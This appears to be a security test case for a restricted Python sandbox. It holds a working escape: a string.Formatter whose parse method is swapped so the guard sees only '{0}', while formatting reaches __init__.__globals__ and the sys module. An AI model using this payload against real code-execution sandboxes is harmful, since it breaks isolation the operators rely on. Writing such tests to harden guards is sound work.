# technique: string.Formatter instance whose parse is replaced: the guard scans the harmless template passed to format(), but _vformat re-parses it with the instance's own parse, which yields a run-time __init__.__globals__[sys].modules field
# configs: default, common
# With nothing allowed `import string` is refused; with string allowed the template the guard
# sees is '{0}'.
import string
u = '_' * 2
field = '0.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules'
formatter = string.Formatter()
formatter.parse = lambda template: [('', field, '', None)] if template else []
text = formatter.format('{0}', exit)
if "<module 'sys'" in text:
    return [{'json': {'escaped': text[:300]}}]
return [{'json': {'result': text[:300]}}]
